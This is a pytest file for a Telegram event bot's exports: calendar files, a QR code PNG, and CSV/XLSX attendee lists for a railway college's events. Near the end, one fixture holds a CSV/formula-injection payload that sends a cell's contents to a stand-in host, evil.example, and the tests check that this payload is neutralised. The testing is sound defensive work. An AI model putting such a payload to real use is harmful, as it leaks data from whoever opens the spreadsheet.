"""The files the bot hands out about events, read back with the libraries (or, for the QR code,
a few lines of PNG decoding): what a calendar, a phone camera and a spreadsheet would see."""

from __future__ import annotations

import csv
import io
import struct
import zlib
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import segno
from icalendar import Calendar, Component
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from services.event_files import (
    AttendeeRow,
    CalendarEntry,
    attendees_csv,
    attendees_xlsx,
    calendar_file,
    qr_png,
)

TZ = ZoneInfo("Asia/Irkutsk")
NOW = datetime(2026, 11, 24, 7, 0, tzinfo=UTC)
OPEN_DAY = CalendarEntry(
    id=7,
    title="День открытых дверей ЗЖДТ",
    description="Мастерские, лаборатории; встреча с выпускниками, вопросы — «как поступить».",
    place="ул. Коммунистическая, 2",
    link="",
    starts_at=datetime(2026, 12, 12, 7, 0, tzinfo=UTC),  # 15:00 in Zima
    ends_at=datetime(2026, 12, 12, 9, 0, tzinfo=UTC),
    cancelled=False,
    organiser="Зиминский железнодорожный техникум",
)
ONLINE = CalendarEntry(
    id=8,
    title="Встреча с машинистом",
    description="",
    place="",
    link="https://example.org/meet",
    starts_at=datetime(2026, 12, 20, 16, 0, tzinfo=TZ),  # stored aware, any zone
    ends_at=datetime(2026, 12, 20, 17, 0, tzinfo=TZ),
    cancelled=True,
    organiser="",
)
HEADER = (
    *("№", "Имя в Telegram", "Кто", "Организация", "Класс/курс", "Статус", "Записан(а)"),
    "Мессенджер",
)
ROWS = [
    AttendeeRow(
        1, "Аня К.", "школьник", "Школа № 1", "9", "записан(а)", "01.12.2026 10:15", "Telegram"
    ),
    AttendeeRow(2, 'Петя "Ёж"; ; 7', "родитель", "", "", "в очереди", "02.12.2026 18:40", "MAX"),
]


def events(data: bytes) -> list[Component]:
    calendar = Calendar.from_ical(data)
    assert calendar["version"] == "2.0"
    assert calendar["prodid"]
    return list(calendar.walk("VEVENT"))


def test_the_calendar_file_has_one_event_per_entry_in_utc() -> None:
    data = calendar_file([OPEN_DAY, ONLINE], NOW)
    assert data.startswith(b"BEGIN:VCALENDAR\r\n")
    assert b"DTSTART:20261212T070000Z\r\n" in data  # UTC, not a zone the phone must know
    assert b"DTSTART:20261220T080000Z\r\n" in data  # 16:00 in Irkutsk
    assert b"TZID" not in data
    open_day, online = events(data)
    assert open_day.decoded("dtstart") == datetime(2026, 12, 12, 7, 0, tzinfo=UTC)
    assert open_day.decoded("dtend") == datetime(2026, 12, 12, 9, 0, tzinfo=UTC)
    assert open_day.decoded("dtstamp") == NOW
    assert online.decoded("dtstart") == datetime(2026, 12, 20, 8, 0, tzinfo=UTC)
    assert str(open_day["summary"]) == OPEN_DAY.title
    assert str(open_day["location"]) == OPEN_DAY.place
    assert OPEN_DAY.description in str(open_day["description"])  # ; , and « » survive escaping
    assert OPEN_DAY.organiser in str(open_day["description"])
    assert "url" not in open_day


def test_an_online_event_is_located_at_its_link_and_a_cancelled_one_says_so() -> None:
    open_day, online = events(calendar_file([OPEN_DAY, ONLINE], NOW))
    assert str(online["location"]) == ONLINE.link
    assert str(online["url"]) == ONLINE.link
    assert str(online["status"]) == "CANCELLED"
    assert online.walk("VALARM") == []  # no reminder for what will not happen
    assert str(open_day["status"]) == "CONFIRMED"
    [alarm] = open_day.walk("VALARM")
    assert alarm.decoded("trigger") == timedelta(hours=-2)
    assert str(alarm["action"]) == "DISPLAY"


def test_an_event_keeps_its_uid_so_a_calendar_updates_it_instead_of_adding_another() -> None:
    first = events(calendar_file([OPEN_DAY], NOW))[0]
    later = events(calendar_file([OPEN_DAY], NOW + timedelta(days=3)))[0]
    assert str(first["uid"]) == str(later["uid"]) == "event-7@profnavigator"
    assert later.decoded("dtstamp") == NOW + timedelta(days=3)
    other = events(calendar_file([ONLINE], NOW))[0]
    assert str(other["uid"]) != str(first["uid"])


def test_an_empty_calendar_is_still_a_calendar() -> None:
    assert events(calendar_file([], NOW)) == []


def png_pixels(data: bytes) -> list[list[int]]:
    """The pixels (0 black, 1 white) of a 1-bit greyscale PNG; every chunk's CRC checked."""
    assert data.startswith(b"\x89PNG\r\n\x1a\n")
    position, chunks = 8, []
    while position < len(data):
        (length,) = struct.unpack(">I", data[position : position + 4])
        kind = data[position + 4 : position + 8]
        body = data[position + 8 : position + 8 + length]
        (crc,) = struct.unpack(">I", data[position + 8 + length : position + 12 + length])
        assert zlib.crc32(kind + body) == crc, kind
        chunks.append((kind, body))
        position += 12 + length
    assert chunks[0][0] == b"IHDR"
    assert chunks[-1][0] == b"IEND"
    width, height, depth, colour, _, _, interlace = struct.unpack(">IIBBBBB", chunks[0][1])
    assert (depth, colour, interlace) == (1, 0, 0)  # 1-bit greyscale: a small file
    raw = zlib.decompress(b"".join(body for kind, body in chunks if kind == b"IDAT"))
    stride = (width + 7) // 8
    assert len(raw) == height * (stride + 1)
    pixels, previous = [], bytes(stride)
    for y in range(height):
        line = raw[y * (stride + 1) : (y + 1) * (stride + 1)]
        row = unfilter(line[0], bytearray(line[1:]), previous)
        pixels.append([(row[x // 8] >> (7 - x % 8)) & 1 for x in range(width)])
        previous = bytes(row)
    return pixels


def unfilter(kind: int, row: bytearray, above: bytes) -> bytearray:
    """Undo a PNG row filter (one byte per "pixel" at bit depth 1)."""
    for i, value in enumerate(row):
        left = row[i - 1] if i else 0
        up = above[i]
        corner = above[i - 1] if i else 0
        if kind == 0:
            base = 0
        elif kind == 1:
            base = left
        elif kind == 2:
            base = up
        elif kind == 3:
            base = (left + up) // 2
        else:
            assert kind == 4, kind
            guess = left + up - corner
            near = min((abs(guess - left), 0), (abs(guess - up), 1), (abs(guess - corner), 2))
            base = (left, up, corner)[near[1]]
        row[i] = (value + base) & 0xFF
    return row


@pytest.mark.parametrize(
    "url",
    [
        "https://t.me/profnavigator_bot?start=ev-den-zhdt",
        "https://t.me/profnavigator_bot?start=" + "e" * 64,
    ],
)
def test_the_qr_code_is_a_png_of_the_link_big_enough_for_a_poster(url: str) -> None:
    scale, border = 10, 4
    pixels = png_pixels(qr_png(url))
    expected = segno.make(url, error="m")
    modules = [[bool(bit) for bit in row] for row in expected.matrix]
    side = len(modules) + 2 * border
    assert len(pixels) == len(pixels[0]) == side * scale  # 10 px a module: prints sharp on A4
    seen = [
        [pixels[y * scale + scale // 2][x * scale + scale // 2] == 0 for x in range(side)]
        for y in range(side)
    ]
    quiet = [*seen[:border], *seen[-border:], *(row[:border] + row[-border:] for row in seen)]
    assert not any(any(row) for row in quiet)  # the white margin a camera needs
    assert [row[border:-border] for row in seen[border:-border]] == modules
    # every pixel of a module has the module's colour (no blur, no anti-aliasing)
    assert all(
        (pixels[y][x] == 0) == seen[y // scale][x // scale]
        for y in range(0, side * scale, 3)
        for x in range(0, side * scale, 3)
    )


def test_the_list_as_csv_opens_in_a_russian_excel() -> None:
    data = attendees_csv("Проба: повар, 15.12.2026", HEADER, ROWS)
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8, not cp1251
    text = data.decode("utf-8-sig")
    assert text.splitlines()[1] == ";".join(HEADER)
    lines = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert lines[0] == ["Проба: повар, 15.12.2026"]
    assert lines[1] == list(HEADER)
    assert lines[2] == [
        "1",
        "Аня К.",
        "школьник",
        "Школа № 1",
        "9",
        "записан(а)",
        "01.12.2026 10:15",
        "Telegram",
    ]
    assert lines[3][1] == 'Петя "Ёж"; ; 7'  # quoted, so ; in a name does not split it
    assert len(lines) == 4


def test_an_empty_list_is_still_headed() -> None:
    text = attendees_csv("Проба", HEADER, []).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text), delimiter=";"))[1:] == [list(HEADER)]


def sheet_of(data: bytes) -> Worksheet:
    assert data.startswith(b"PK")
    sheet = load_workbook(io.BytesIO(data)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def test_the_list_as_xlsx_has_a_bold_frozen_header_and_the_rows() -> None:
    sheet = sheet_of(attendees_xlsx("Проба", HEADER, ROWS))
    assert sheet.title == "Проба"
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0] == list(HEADER)
    assert values[1] == [
        1,
        "Аня К.",
        "школьник",
        "Школа № 1",
        "9",
        "записан(а)",
        "01.12.2026 10:15",
        "Telegram",
    ]
    assert values[2][1] == 'Петя "Ёж"; ; 7'
    assert len(values) == 3
    assert all(cell.font.b for cell in sheet[1])
    assert not sheet["B2"].font.b
    assert sheet.freeze_panes == "A2"
    for column, text in zip("ABCDEFGH", HEADER, strict=True):
        assert (sheet.column_dimensions[column].width or 0) >= len(text)


@pytest.mark.parametrize(
    ("title", "words"),
    [
        ("[Профпроба]: повар/кондитер?*", ["Профпроба", "повар", "кондитер"]),
        (
            "День открытых дверей Зиминского железнодорожного техникума",
            ["День", "открытых", "дверей", "Зиминского"],  # 31 characters exactly
        ),
        ("[]:*?/\\", ["list"]),
    ],
)
def test_the_sheet_is_named_after_the_event_as_excel_allows(title: str, words: list[str]) -> None:
    sheet = sheet_of(attendees_xlsx(title, HEADER, ROWS))
    assert len(sheet.title) <= 31
    assert not set(sheet.title) & set("[]:*?/\\")
    assert sheet.title.split() == words


FORMULA = '=HYPERLINK("https://evil.example/?"&C2,"Открыть")'
#: A Telegram name is whatever its owner typed; a spreadsheet must show it, not run it.
INJECTED = AttendeeRow(1, FORMULA, "школьник", "Школа № 1", "9", "записан(а)", "01.12.2026")


def test_a_name_that_looks_like_a_formula_stays_text_in_xlsx() -> None:
    cell = sheet_of(attendees_xlsx("Проба", HEADER, [INJECTED]))["B2"]
    assert cell.data_type == "s"
    assert cell.value == FORMULA


def test_a_name_that_looks_like_a_formula_stays_text_in_csv() -> None:
    text = attendees_csv("Проба", HEADER, [INJECTED]).decode("utf-8-sig")
    name = list(csv.reader(io.StringIO(text), delimiter=";"))[2][1]
    assert not name.startswith(("=", "+", "-", "@"))
    assert name.endswith(FORMULA)  # shown as typed
